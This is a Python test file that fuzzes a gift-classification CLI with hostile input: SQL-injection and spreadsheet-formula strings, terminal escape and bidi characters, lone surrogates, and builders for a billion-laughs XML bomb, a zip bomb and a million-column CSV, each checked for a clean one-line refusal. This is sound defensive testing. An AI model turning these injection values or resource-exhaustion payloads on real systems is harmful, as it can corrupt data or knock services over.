@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                HealthCheck.too_slow])
@given(mutations=st.lists(mutation, min_size=1, max_size=3))
@example(mutations=[("replace", ("questions", 0, "choices", 0, "weights", "office"), float("nan"))])
@example(mutations=[("replace", ("questions", 0, "choices", 0, "weights", "office"), 1e308),
                    ("replace", ("questions", 0, "choices", 0, "weights", "welfare"), 1e308)])
@example(mutations=[("replace", ("segments", 0, "pitch", "opening"), "{client.__class__}")])
@example(mutations=[("duplicate", ("segments", 0), None), ("rename", ("title",), "\x1b[2J\ntg: all good")])
def test_playbook_check_on_mutations_of_the_real_playbook(tg, tmp_path, mutations):
    """The shipped playbook with fields replaced by hostile values, deleted, doubled or renamed:
    check refuses it with one line per problem, or calls it valid — and then classify works on it
    and writes strict JSON (no NaN)."""
    data = _real_data()
    for kind, path, new in mutations:
        _mutate(data, kind, path, new)
    path = tmp_path / "mutated.yaml"
    path.write_text(yaml.dump(data, Dumper=getattr(yaml, "CSafeDumper", yaml.SafeDumper), allow_unicode=True,
                              sort_keys=False), encoding="utf-8")
    r = check_playbook(tg, path)
    event("valid" if r.exit_code == 0 else "refused")
    if r.exit_code == 0:
        r = clean(tg("--playbook", str(path), "classify", "--no-save", "-f", "json",
                     "--notes=工会年终慰问 一百二十人 人均三百 thank-you gifts for clients"), (0, 1, 2))
        if r.exit_code == 0:
            _strict_json(r.stdout)


@pytest.mark.no_db
@BOUNDED
@given(edits=st.lists(st.tuples(st.floats(0, 1), st.integers(0, 40), hostile), min_size=1, max_size=3))
@example(edits=[(0.5, 0, "\x00")])
@example(edits=[(0.3, 5, "&a [*a]")])
@example(edits=[(0.0, 0, "%YAML 9.9\n---\n")])
def test_playbook_check_on_text_edits_of_the_real_playbook(tg, tmp_path, edits):
    """The shipped playbook's text with slices cut out and hostile text pasted in."""
    text = REAL_PLAYBOOK
    for where, cut, paste in edits:
        at = int(where * len(text))
        text = text[:at] + paste + text[at + cut:]
    path = tmp_path / "edited.yaml"
    path.write_text(text, encoding="utf-8")
    r = check_playbook(tg, path)
    event("valid" if r.exit_code == 0 else "refused")


# --- real processes: what CliRunner cannot show (a real argv, a real stdin) ------------------------------------


def run_tg(*args: str | bytes, stdin: bytes = b"", timeout: float = 300) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "tuangou_cli", *args], input=stdin, capture_output=True,
                          timeout=timeout, env={**os.environ, "LC_ALL": "C.UTF-8", "PYTHONUTF8": "0"})


def test_real_process_the_largest_notes_on_stdin():
    """As much as limits.NOTES_BYTES of hostile text on stdin classifies and comes back exactly."""
    from tuangou_cli.limits import NOTES_BYTES

    noise = "\x1b[31m=HYPERLINK(\"x\")\u202e\u200b'; DROP TABLE client;--\x00ＡＢＣ\r\n"
    notes = ("工会年终慰问，给职工发，120人，人均三百。" + noise * 30_000).encode()[:NOTES_BYTES].decode(errors="ignore")
    r = run_tg("classify", "--no-save", "--notes", "-", "-f", "json", stdin=notes.encode())
    assert r.returncode == 0, r.stderr.decode(errors="replace")[-2000:]
    assert b"Traceback" not in r.stderr
    data = json.loads(r.stdout)
    assert data["notes"]["text"] == notes and data["segment"] == "welfare"


def test_real_process_largest_single_argument():
    """Linux takes at most 128 KiB in one argument; that much of notes goes through."""
    notes = ("budget 300 per head, 120 staff, 人均三百; '; DROP TABLE client;-- =1+1 " * 2000).encode()[:130_000]
    notes = notes.decode(errors="ignore")  # whole characters only
    r = run_tg("classify", "--no-save", f"--notes={notes}", "-f", "json")
    assert r.returncode == 0, r.stderr.decode(errors="replace")[-2000:]
    assert json.loads(r.stdout)["notes"]["text"] == notes


def test_real_process_argv_and_stdin_that_are_not_utf8(testdb):
    """Bytes that are not UTF-8 in argv (a GB18030 terminal) or on stdin: one line, exit 2, nothing stored."""
    for args, stdin in ((["classify", "Acme", b"--notes=\xb9\xa4\xbb\xe1 120\xc8\xcb"], b""),
                        ([b"classify", b"\xff\xfeAcme", b"--notes=ok"], b""),
                        (["classify", "Acme", "--notes", "-"], "工会 120人".encode("gb18030"))):
        r = run_tg(*args, stdin=stdin)
        assert r.returncode == 2, r.stderr
        assert b"Traceback" not in r.stderr and len(r.stderr.splitlines()) == 1, r.stderr
        assert b"UTF-8" in r.stderr
    assert not testdb.exists() or json.loads(run_tg("export", "classifications", "-f", "json").stdout) == []


def test_real_process_other_commands_refuse_argv_that_is_not_utf8(testdb, monkeypatch):
    """Any command that would store or print argv text that is not UTF-8: one line, exit 2, nothing stored.
    (The CLI's error handler, not each option: TG_DEBUG off, as a user runs it.)"""
    monkeypatch.delenv("TG_DEBUG", raising=False)
    assert run_tg("clients", "add", "Acme").returncode == 0
    for args in ([b"clients", b"add", b"\xb9\xa4\xbb\xe1"], [b"clients", b"edit", b"Acme", b"--city", b"\xff"],
                 [b"log", b"Acme", b"\xc8\xcb", b"--type", b"call"]):
        r = run_tg(*args)
        assert r.returncode == 2, r.stderr
        assert b"Traceback" not in r.stderr and len(r.stderr.splitlines()) == 1, r.stderr
        assert b"UTF-8" in r.stderr
    rows = json.loads(run_tg("clients", "list", "-f", "json").stdout)
    assert [(c["name"], c["city"]) for c in rows] == [("Acme", None)]


def test_tables_and_trees_show_control_and_bidi_characters_as_escapes(tg):
    """A stored name holding a terminal escape or a bidi override is shown escaped in listings,
    and kept exactly in CSV."""
    nasty = "Acme\x1b[2J\u202eCorp"
    assert tg("clients", "add", nasty).exit_code == 0
    assert tg("clients", "add", "Beta").exit_code == 0
    assert tg("refer", nasty, "Beta").exit_code == 0
    listing = tg("clients", "list").stdout
    assert "\x1b" not in listing and "\u202e" not in listing
    assert "Acme\\x1b[2J\\u202eCorp" in listing
    tree = tg("referrals", "tree", "1").stdout
    assert "\x1b" not in tree and "\u202e" not in tree and "Acme\\x1b[2J" in tree
    rows = list(csv.reader(io.StringIO(tg("clients", "list", "-f", "csv").stdout)))
    assert rows[1][1] == nasty


# --- lone surrogates from JSON and YAML files -----------------------------------------------------------------------
# JSON's "\udcff" (half of a UTF-16 pair, alone) and the pure-Python YAML loader's "\udcff" make text that
# cannot be encoded: stored, it would break every later export and listing. Refused where it is read.


@pytest.fixture(params=["libyaml", "pure-python"])
def yaml_impl(request, monkeypatch):
    """Each YAML loader tg may run on: libyaml (CSafeLoader) when PyYAML has it, else pure Python."""
    from tuangou_cli.playbook import yaml_loader

    if request.param == "libyaml" and not hasattr(yaml, "CSafeLoader"):
        pytest.skip("PyYAML built without libyaml")
    if request.param == "pure-python":
        monkeypatch.delattr(yaml, "CSafeLoader", raising=False)
    yaml_loader.cache_clear()
    yield request.param
    yaml_loader.cache_clear()


def nothing_stored(tg):
    assert json.loads(tg("export", "classifications", "-f", "json").stdout) == []
    assert json.loads(tg("export", "clients", "-f", "json").stdout) == []


@pytest.mark.parametrize("content, where", [
    ('{"purpose": "staff", "past_items": "fruit \\udcff"}', "past_items"),
    ('{"purpose": "staff", "past_items": "\\ud83c"}', "past_items"),  # a high half without its low half
    ('{"purpose": "staff", "priorities": ["novelty", "x\\udfff"]}', "priorities[1]"),
    ('{"purpose": "staff", "\\udcff": "x"}', "\\udcff"),
    ('{"purpose": "staff", "past_items": {"a": ["\\udcff"]}}', "past_items.a[0]"),
])
def test_lone_surrogate_in_a_json_answers_file_is_refused(tg, tmp_path, content, where):
    path = tmp_path / "call.json"
    path.write_text(content, encoding="ascii")
    r = tg("classify", "Acme", "--answers", str(path), "-f", "json")
    one_line_error(r, (1,))
    assert f"answers file {path}: {where} holds a lone surrogate" in r.stderr, r.stderr
    assert "nothing was written" in r.stderr and r.stdout == ""
    nothing_stored(tg)


def test_lone_surrogate_refusal_is_bilingual_and_a_pair_is_one_character(tg, tmp_path):
    path = tmp_path / "call.json"
    path.write_text('{"purpose": "staff", "past_items": "fruit \\udcff"}', encoding="ascii")
    r = tg("--lang", "zh", "classify", "Acme", "--answers", str(path))
    one_line_error(r, (1,))
    assert "past_items 含有单独的代理码位" in r.stderr and "未写入任何内容" in r.stderr
    nothing_stored(tg)
    # A surrogate pair is how JSON writes a character beyond U+FFFF: joined, stored, exported.
    path.write_text('{"purpose": "staff", "past_items": "fruit \\ud83c\\udf81"}', encoding="ascii")
    r = tg("classify", "Acme", "--answers", str(path), "-f", "json")
    assert r.exit_code == 0, r.stderr
    (saved,) = json.loads(tg("export", "classifications", "-f", "json").stdout)
    answers = saved["answers"] if isinstance(saved["answers"], dict) else json.loads(saved["answers"])
    assert answers["past_items"] == "fruit 🎁"


@pytest.mark.parametrize("content, where", [('purpose: staff\npast: "fruit \\udcff"\n', "past"),
                                            ('purpose: staff\npriorities: [novelty, "\\uDFFF"]\n', "priorities[1]"),
                                            ('purpose: staff\n"\\udcff": x\n', "\\udcff")])
def test_lone_surrogate_in_a_yaml_answers_file_is_refused_by_either_loader(tg, mini, tmp_path, yaml_impl,
                                                                           content, where):
    """(With the small playbook, as the rest of these answers-file tests.)"""
    path = tmp_path / "call.yaml"
    path.write_text(content, encoding="ascii")
    r = tg("classify", "Acme", "--answers", str(path))
    one_line_error(r, (1,))
    if yaml_impl == "libyaml":  # refused by its scanner: the line, in words
        assert f"{path}:2: an escape that is not a valid Unicode character (a lone surrogate" in r.stderr, r.stderr
    else:  # read, then found in the data
        assert f"answers file {path}: {where} holds a lone surrogate" in r.stderr, r.stderr
    nothing_stored(tg)


@pytest.mark.no_db
def test_answers_files_nested_too_deep_are_one_line(tg, tmp_path):
    """JSON deeper than Python's recursion limit was an internal error."""
    for name, text in (("deep.json", '{"a": ' + "[" * 100_000 + "]" * 100_000 + "}"),
                       ("deep.yaml", "a: " + "[" * 100_000 + "]" * 100_000 + "\n")):
        path = tmp_path / name
        path.write_text(text, encoding="ascii")
        r = tg("classify", "--no-save", "--answers", str(path))
        one_line_error(r, (1,))
        assert "cannot read answers file" in r.stderr


@pytest.mark.no_db
@pytest.mark.parametrize("escape", ["\\udcff", "\\uD800", "\\U0000DCFF"])
def test_playbook_with_a_lone_surrogate_escape_is_refused_by_either_loader(tg, tmp_path, yaml_impl, escape):
    from .conftest import MINI

    mini = Path(MINI).read_text(encoding="utf-8")
    needle = "title: {zh: 测试手册, en: Test playbook}\n"
    assert needle in mini
    path = tmp_path / "pb.yaml"
    path.write_text(mini.replace(needle, f'title: {{zh: 测试手册, en: "Test {escape} playbook"}}\n'), encoding="utf-8")
    r = check_playbook(tg, path)
    assert r.exit_code == 1
    line = mini[:mini.index(needle)].count("\n") + 1
    if yaml_impl == "libyaml":
        assert f"{path}:{line} YAML syntax error: an escape that is not a valid Unicode character" in r.stderr
    else:
        assert f"{path}:{line} title.en: holds a lone surrogate" in r.stderr, r.stderr
    assert tg("--playbook", str(path), "classify", "--no-save", "-a", "purpose=staff").exit_code == 1


@pytest.mark.no_db
def test_playbook_escape_beyond_unicode_is_a_yaml_error_with_either_loader(tg, tmp_path, yaml_impl):
    """chr() of \\U00110000 raised ValueError inside the pure-Python scanner: an internal error."""
    path = tmp_path / "pb.yaml"
    path.write_text('version: "\\U00110000"\n', encoding="ascii")
    r = check_playbook(tg, path)
    assert r.exit_code == 1 and f"{path}:1 YAML syntax error: an escape that is not a valid Unicode" in r.stderr


# --- hostile spreadsheets: one line, exit 1, nothing written, on every road that reads a file -----

def _xlsx_with(path, sheet_xml: bytes, *, shared: bytes | None = None, compress=True) -> str:
    import zipfile

    parts = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                               b'content-types"/>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                       b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
                       b'2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                           b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                           b'<sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                                      b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                                      b'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                                      b'Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet_xml,
    }
    if shared is not None:
        parts["xl/sharedStrings.xml"] = shared
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return str(path)


_MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _sheet(rows: list[list[str]], *, prolog: bytes = b"", numeric_text: bool = False) -> bytes:
    out = [b'<?xml version="1.0" encoding="UTF-8"?>', prolog, b"<worksheet ", _MAIN, b"><sheetData>"]
    for r, row in enumerate(rows, start=1):
        out.append(f'<row r="{r}">'.encode())
        for c, value in enumerate(row):
            ref = f"{chr(65 + c)}{r}"
            if numeric_text and r > 1 and c == 1:
                out.append(f'<c r="{ref}"><v>{value}</v></c>'.encode())  # t="n" (the default) holding text
            else:
                out.append(f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'.encode())
        out.append(b"</row>")
    out.append(b"</sheetData></worksheet>")
    return b"".join(out)


def _hostile(kind: str, tmp_path) -> str:
    p = tmp_path / f"{kind}.xlsx"
    if kind == "not_a_zip":
        p.write_bytes(b"PK\x03\x04 this is no zip at all" + b"\x00" * 100)
        return str(p)
    if kind == "doctype_entity":
        return _xlsx_with(p, _sheet([["名称", "备注"], ["甲", "&x;"]],
                                    prolog=b'<!DOCTYPE worksheet [<!ENTITY x "expanded">]>'))
    if kind == "billion_laughs":
        lols = b"".join(f'<!ENTITY l{i} "{"&l%d;" % (i - 1) * 10}">'.encode() for i in range(1, 10))
        return _xlsx_with(p, _sheet([["名称", "备注"], ["甲", "&l9;"]],
                                    prolog=b'<!DOCTYPE worksheet [<!ENTITY l0 "lol">' + lols + b"]>"))
    if kind == "zip_bomb":
        filler = b"<row/>" * (7 << 20)  # 44 MB of empty rows: some 50 KB packed
        return _xlsx_with(p, _sheet([["名称", "备注"], ["甲", "x"]]).replace(b"</sheetData>", filler + b"</sheetData>"))
    if kind == "xls_html":
        p = tmp_path / "report.xls"
        p.write_text("<html><body><table><tr><td>名称</td></tr><tr><td>甲</td></tr></table></body></html>",
                     encoding="utf-8")
        return str(p)
    if kind == "million_columns_csv":
        p = tmp_path / "wide.csv"
        p.write_text("名称," + ",".join(f"c{i}" for i in range(1_000_000)) + "\n甲," + "1," * 999_999 + "1\n",
                     encoding="utf-8")
        return str(p)
    raise AssertionError(kind)


@pytest.mark.parametrize("kind, needle", [
    ("not_a_zip", "is not a spreadsheet"),
    ("doctype_entity", "DOCTYPE"),
    ("billion_laughs", "DOCTYPE"),
    ("zip_bomb", "unpacks to too much"),
    ("xls_html", "is not a spreadsheet"),
    ("million_columns_csv", "has more than 2000 columns"),
])
@pytest.mark.parametrize("road", ["import", "batch", "batch_save"])
def test_hostile_files_are_one_line_file_errors(tg, tmp_path, testdb, kind, needle, road):
    path = _hostile(kind, tmp_path)
    before = testdb.count("client")
    args = {"import": ["import", "clients", path], "batch": ["classify", "--batch", path],
            "batch_save": ["classify", "--batch", path, "--save"]}[road]
    r = tg(*args)
    assert r.exit_code == 1, (r.exit_code, r.stderr)
    assert needle in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert "internal error" not in r.stderr and "Traceback" not in r.output
    assert testdb.count("client") == before, "nothing written"


def test_numeric_cell_holding_text_is_read_as_its_text(tg, tmp_path):
    """openpyxl said 'could not convert string to float'; the cell's text is what it holds."""
    path = _xlsx_with(tmp_path / "n.xlsx", _sheet([["名称", "人数", "备注"], ["甲", "很多", "给职工发"],
                                                   ["乙", "120", "x"]], numeric_text=True))
    r = tg("import", "clients", path)
    assert r.exit_code == 1 and "row 2, 人数: not a number: 很多" in r.stderr, r.stderr
    r = tg("classify", "--batch", path)
    assert r.exit_code == 0, r.stderr
    r = tg("import", "clients", path, "--skip-errors", str(tmp_path / "rejects.csv"))
    assert r.exit_code == 0 and "created 1," in r.stderr
    assert tg.json("clients", "show", "乙", "-f", "json")["client"]["headcount"] == 120


def test_notes_built_from_unknown_columns_are_capped(tg, tmp_path, testdb):
    """Many unknown columns would make huge notes: such a row is a bad row, like a huge cell."""
    width = 1_500
    rows = [["名称"] + [f"列{i}" for i in range(width)], ["甲"] + ["x" * 100] * width]
    path = tmp_path / "wide.csv"
    path.write_text("\n".join(",".join(r) for r in rows) + "\n", encoding="utf-8")
    r = tg("import", "clients", str(path))
    assert r.exit_code == 1 and "too long for the notes" in r.stderr, r.stderr
    assert testdb.count("client") == 0
